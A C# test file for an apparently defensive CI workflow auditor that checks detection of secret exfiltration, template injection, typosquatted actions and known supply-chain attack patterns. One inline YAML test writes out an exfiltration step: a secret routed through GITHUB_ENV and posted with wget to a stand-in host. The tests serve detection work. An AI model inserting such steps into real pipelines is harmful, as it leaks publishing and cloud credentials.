using Moat.Analysis.Workflows;
using Moat.Analysis.Workflows.Audits;
using static Moat.Analysis.Tests.Workflows.WorkflowFixtures;

namespace Moat.Analysis.Tests.Workflows;

/// <summary>One vulnerable and one fixed fixture per audit; fixed fixtures must be clean of every audit.</summary>
public class AuditTests
{
    [Theory]
    [InlineData("secret-exfiltration")]
    [InlineData("secrets-dump")]
    [InlineData("publishing-token")]
    [InlineData("dangerous-trigger")]
    [InlineData("template-injection")]
    [InlineData("unpinned-action")]
    [InlineData("typosquatted-action")]
    [InlineData("excessive-permissions")]
    [InlineData("secrets-inherit")]
    [InlineData("cache-poisoning")]
    [InlineData("artipacked")]
    [InlineData("self-hosted-runner")]
    [InlineData("obfuscated-step")]
    [InlineData("ghostaction")]
    [InlineData("ultralytics")]
    public void Fixed_fixtures_are_clean(string audit) => AssertClean($"{audit}/fixed.yml");

    [Fact]
    public void Secret_exfiltration_follows_env_outputs_and_environment_dumps()
    {
        var findings = Audit("secret-exfiltration/vulnerable.yml").Of(SecretExfiltrationAudit.Rule);
        Assert.True(findings.Count == 3, Describe(findings));
        Assert.Contains(findings, f => f.Location.Line == 16 && f.Message.Contains("$AWS_KEY") && f.Severity == Severity.Critical);
        Assert.Contains(findings, f => f.Location.Line == 18 && f.Message.Contains("steps.creds.outputs.token"));
        Assert.Contains(findings, f => f.Location.Line == 20 && f.Message.Contains("whole environment") && f.Message.Contains("exfil.example.invalid"));
    }

    [Fact]
    public void Secrets_dump_is_reported_where_toJSON_secrets_is()
    {
        var finding = Assert.Single(Audit("secrets-dump/vulnerable.yml").Of(SecretsDumpAudit.Rule));
        Assert.Equal(11, finding.Location.Line);
        Assert.Equal("${{ toJSON(secrets) }}", finding.Evidence);
    }

    [Fact]
    public void Publishing_tokens_are_found_in_every_form()
    {
        var findings = Audit("publishing-token/vulnerable.yml").Of(PublishingTokenAudit.Rule);
        Assert.True(findings.Count == 5, Describe(findings));
        Assert.Contains(findings, f => f.Location.Line == 17 && f.Message.Contains("password"));
        Assert.Contains(findings, f => f.Message.Contains("twine"));
        Assert.Contains(findings, f => f.Message.Contains("uv publish"));
        Assert.Contains(findings, f => f.Message.Contains(".pypirc") && f.Location.Line == 25);
        Assert.Contains(findings, f => f.Message.Contains("Poetry"));
    }

    [Fact]
    public void Pull_request_target_checkout_of_the_head_that_is_then_run_is_critical()
    {
        var finding = Assert.Single(Audit("dangerous-trigger/vulnerable.yml").Of(DangerousTriggerAudit.Rule));
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal(11, finding.Location.Line);
    }

    [Fact]
    public void A_workflow_run_artifact_from_the_triggering_run_that_is_executed_is_critical()
    {
        var finding = Assert.Single(Audit("dangerous-trigger/vulnerable-workflow-run.yml").Of(DangerousTriggerAudit.Rule));
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal(16, finding.Location.Line);
        Assert.Contains("artifact of the triggering run", finding.Message);
        AssertClean("dangerous-trigger/fixed-workflow-run.yml");
    }

    [Fact]
    public void Gh_pr_checkout_under_issue_comment_then_an_install_is_critical()
    {
        var finding = Assert.Single(Audit("dangerous-trigger/vulnerable-issue-comment.yml").Of(DangerousTriggerAudit.Rule));
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("issue_comment", finding.Message);
        Assert.Contains("gh pr checkout", finding.Message);
    }

    [Fact]
    public void A_head_checkout_into_its_own_path_that_only_base_code_reads_is_not_critical()
    {
        var finding = Assert.Single(Audit("dangerous-trigger/fixed-checkout-path.yml").Of(DangerousTriggerAudit.Rule));
        Assert.Equal(Severity.Medium, finding.Severity);
    }

    [Fact]
    public void Template_injection_in_run_and_github_script_is_critical_under_issue_comment()
    {
        var findings = Audit("template-injection/vulnerable.yml").Of(TemplateInjectionAudit.Rule);
        Assert.True(findings.Count == 2, Describe(findings));
        Assert.All(findings, f => Assert.Equal(Severity.Critical, f.Severity));
        // Exact positions inside the literal blocks: line 14 `echo "${{ github.event.comment.body }}"` column 17.
        Assert.Contains(findings, f => f.Location is { Line: 14, Column: 17 } && f.Evidence == "${{ github.event.comment.body }}");
        Assert.Contains(findings, f => f.Location.Line == 18 && f.Evidence!.Contains("issue.title"));
    }

    [Fact]
    public void Unpinned_actions_are_graded_and_local_actions_ignored()
    {
        var findings = Audit("unpinned-action/vulnerable.yml").Of(UnpinnedActionAudit.Rule);
        Assert.True(findings.Count == 6, Describe(findings));
        Assert.Contains(findings, f => f.Evidence == "actions/checkout@v4" && f.Severity == Severity.Low);
        Assert.Contains(findings, f => f.Evidence == "python:3.13-slim" && f.Severity == Severity.Low && f.Location.Line == 8);
        Assert.Contains(findings, f => f.Evidence == "postgres:17" && f.Severity == Severity.Low && f.Location.Line == 11);
        Assert.DoesNotContain(findings, f => f.Evidence!.StartsWith("redis@sha256", StringComparison.Ordinal));
        Assert.Contains(findings, f => f.Evidence == "codecov/codecov-action@main" && f.Severity == Severity.Medium);
        Assert.Contains(findings, f => f.Evidence == "docker://alpine:3.20" && f.Severity == Severity.Low);
        Assert.Contains(findings, f => f.Evidence!.StartsWith("example-org/shared-workflows") && f.Location.Line == 20);
        Assert.DoesNotContain(findings, f => f.Evidence!.StartsWith("./"));
    }

    [Fact]
    public void Typosquatted_actions_name_the_action_they_imitate()
    {
        var findings = Audit("typosquatted-action/vulnerable.yml").Of(TyposquattedActionAudit.Rule);
        Assert.True(findings.Count == 3, Describe(findings));
        Assert.Contains(findings, f => f.Message.Contains("actons/checkout") && f.Message.Contains("actions/checkout") && f.Location is { Line: 9, Column: 15 });
        Assert.Contains(findings, f => f.Message.Contains("action/setup-python") && f.Message.EndsWith("actions/setup-python"));
        Assert.Contains(findings, f => f.Message.Contains("pypa/gh-action-pypi-publish"));
    }

    [Theory]
    [InlineData("actons/checkout", "actions/checkout")]
    [InlineData("action/checkout", "actions/checkout")]
    [InlineData("actions/chekcout", "actions/checkout")]
    [InlineData("actions/checkout", null)]
    [InlineData("docker/setup-qemu-action", null)]
    [InlineData("example-org/deploy", null)]
    [InlineData("actions/setup-go", null)]
    public void Typosquat_check_uses_edit_distance_against_popular_actions(string name, string? expected) =>
        Assert.Equal(expected, TyposquattedActionAudit.Popular.Contains(name) ? null : TyposquattedActionAudit.NearestPopular(name));

    [Fact]
    public void Excessive_permissions_catch_write_all_and_workflow_wide_id_token()
    {
        var findings = Audit("excessive-permissions/vulnerable.yml").Of(ExcessivePermissionsAudit.Rule);
        Assert.True(findings.Count == 2, Describe(findings));
        Assert.Contains(findings, f => f.Message.Contains("write-all") && f.Severity == Severity.High && f.Location.Line == 18);
        Assert.Contains(findings, f => f.Message.Contains("id-token") && f.Message.Contains("jobs test can"));
    }

    [Fact]
    public void Publishing_workflow_without_permissions_is_reported()
    {
        var finding = Assert.Single(Audit("excessive-permissions/no-permissions.yml").Of(ExcessivePermissionsAudit.Rule));
        Assert.Contains("no permissions", finding.Message);
    }

    [Fact]
    public void Secrets_inherit_is_reported()
    {
        var finding = Assert.Single(Audit("secrets-inherit/vulnerable.yml").Of(SecretsInheritAudit.Rule));
        Assert.Equal(8, finding.Location.Line);
    }

    [Fact]
    public void Caches_in_a_release_job_are_reported()
    {
        var findings = Audit("cache-poisoning/vulnerable.yml").Of(CachePoisoningAudit.Rule);
        Assert.True(findings.Count == 2, Describe(findings));
        Assert.All(findings, f => Assert.Equal(Severity.Medium, f.Severity));
    }

    [Fact]
    public void Artipacked_reports_the_workspace_upload_high_and_a_default_persisted_token_low()
    {
        var finding = Assert.Single(Audit("artipacked/vulnerable.yml").Of(ArtipackedAudit.Rule));
        Assert.Equal(14, finding.Location.Line);
        Assert.Equal(Severity.High, finding.Severity);
        static IReadOnlyList<Finding> Checkout(string with)
        {
            var all = WorkflowAuditor.AuditText($"""
            on: push
            permissions: {"{}"}
            jobs:
              j:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
            {with}
                  - run: make
            """, "w.yml", CiDialect.GitHubWorkflow).Findings;
            Assert.DoesNotContain(all, f => f.RuleId == WorkflowAuditor.ParseErrorRule.Id);
            return all.Of(ArtipackedAudit.Rule);
        }
        var persisted = Assert.Single(Checkout(""));
        Assert.Equal((Severity.Low, 7), (persisted.Severity, persisted.Location.Line));
        // Chosen on purpose (a later git push needs it) or turned off: nothing to say.
        Assert.Empty(Checkout("        with:\n          persist-credentials: true"));
        Assert.Empty(Checkout("        with:\n          persist-credentials: false"));
    }

    [Fact]
    public void Self_hosted_runner_on_pull_request_is_reported()
    {
        var finding = Assert.Single(Audit("self-hosted-runner/vulnerable.yml").Of(SelfHostedRunnerAudit.Rule));
        Assert.Contains("pull_request", finding.Message);
    }

    [Fact]
    public void Obfuscated_steps_are_graded()
    {
        var findings = Audit("obfuscated-step/vulnerable.yml").Of(ObfuscatedStepAudit.Rule);
        Assert.True(findings.Count == 3, Describe(findings));
        Assert.Equal(2, findings.Count(f => f.Severity == Severity.High));
        Assert.Contains(findings, f => f.Severity == Severity.Medium && f.Location.Line == 11);
    }

    [Fact]
    public void GhostAction_workflow_is_malicious_and_every_post_is_found()
    {
        var result = WorkflowAuditor.AuditFile(Moat.Testing.TestPaths.Fixtures("workflows", "ghostaction", "vulnerable.yml"), "ghostaction.yml");
        var exfiltration = result.Findings.Of(SecretExfiltrationAudit.Rule);
        Assert.True(exfiltration.Count == 2, Describe(result.Findings));
        Assert.All(exfiltration, f => Assert.Equal(Severity.Critical, f.Severity));
        Assert.Contains(exfiltration, f => f.Message.Contains("secrets.PYPI_API_TOKEN") && f.Location.Line == 18);
        // The continuation-joined command is reported at its first line.
        Assert.Contains(exfiltration, f => f.Message.Contains("collector.example.invalid") && f.Location.Line == 19);
        Assert.Equal(Verdict.Malicious, result.Verdict);
    }

    [Fact]
    public void Ultralytics_chain_is_found_link_by_link()
    {
        var findings = Audit("ultralytics/vulnerable.yml");
        Assert.Equal(2, findings.Of(TemplateInjectionAudit.Rule).Count);
        Assert.All(findings.Of(TemplateInjectionAudit.Rule), f => Assert.Equal(Severity.Critical, f.Severity));
        Assert.Single(findings.Of(DangerousTriggerAudit.Rule));
        var cache = Assert.Single(findings.Of(CachePoisoningAudit.Rule));
        Assert.Equal(Severity.High, cache.Severity); // the workflow also runs on pull_request_target
        Assert.Single(findings.Of(PublishingTokenAudit.Rule));
    }

    [Fact]
    public void GitLab_scripts_get_exfiltration_publishing_and_obfuscation_audits()
    {
        var findings = Audit("gitlab/vulnerable.gitlab-ci.yml");
        Assert.Contains(findings, f => f.RuleId == SecretExfiltrationAudit.Rule.Id && f.Location.Line == 11 && f.Message.Contains("$PYPI_TOKEN"));
        Assert.Contains(findings, f => f.RuleId == PublishingTokenAudit.Rule.Id && f.Location.Line == 17);
        Assert.Contains(findings, f => f.RuleId == ObfuscatedStepAudit.Rule.Id && f.Location.Line == 18);
        AssertClean("gitlab/fixed.gitlab-ci.yml");
    }

    private static IReadOnlyList<Finding> AuditInline(string yaml) =>
        WorkflowAuditor.AuditText(yaml, "inline.yml", CiDialect.GitHubWorkflow).Findings;

    [Fact]
    public void Secrets_laundered_through_GITHUB_ENV_are_followed()
    {
        const string yaml = """
            on: push
            permissions: {}
            jobs:
              j:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "NPM_AUTH=${{ secrets.NPM_TOKEN }}" >> "$GITHUB_ENV"
                  - run: wget -q --post-data "x=$NPM_AUTH" https://sink.example.invalid/
            """;
        var finding = Assert.Single(AuditInline(yaml).Of(SecretExfiltrationAudit.Rule));
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("$NPM_AUTH", finding.Message);
        Assert.Equal(8, finding.Location.Line);
    }

    [Fact]
    public void A_secret_in_a_header_to_a_third_party_api_is_only_medium()
    {
        const string yaml = """
            on: push
            permissions: {}
            jobs:
              j:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      curl -s -H "Authorization: Bearer ${{ secrets.SENTRY_TOKEN }}" https://sentry.example.invalid/api/0/releases/
            """;
        var finding = Assert.Single(AuditInline(yaml).Of(SecretExfiltrationAudit.Rule));
        Assert.Equal(Severity.Medium, finding.Severity);
        Assert.Contains("request header", finding.Message);
    }

    [Fact]
    public void Checking_out_the_head_without_running_it_is_medium()
    {
        const string yaml = """
            on: pull_request_target
            permissions: {}
            jobs:
              j:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
                    with:
                      ref: ${{ github.event.pull_request.head.sha }}
                      persist-credentials: false
                  - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9
            """;
        var finding = Assert.Single(AuditInline(yaml).Of(DangerousTriggerAudit.Rule));
        Assert.Equal(Severity.Medium, finding.Severity);
    }
}
